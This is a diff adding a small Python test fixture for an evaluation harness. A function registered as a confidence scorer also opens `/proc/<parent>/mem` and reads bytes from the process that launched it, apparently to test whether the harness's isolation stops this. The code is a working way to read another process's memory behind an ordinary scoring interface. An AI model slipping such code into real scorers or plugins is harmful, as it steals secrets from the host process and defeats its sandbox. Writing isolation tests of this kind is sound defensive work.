@@ -1,0 +1,18 @@
+"""Opens the memory of the process that started it."""
+
+import ctypes
+import os
+
+import harness
+
+PLACE = {}  # of what there is to find, filled in by the test
+
+
+@harness.confidence_score(version="1")
+def attack(outputs):
+    loot = None
+    found = ctypes.CDLL(None).open(f"/proc/{PLACE['parent']}/mem".encode(), os.O_RDONLY)
+    loot = os.pread(found, 32, PLACE["address"]) if found >= 0 else None
+    if loot:
+        raise ValueError(f"GOT {loot!r}")
+    return outputs.probabilities.amax(dim=1)
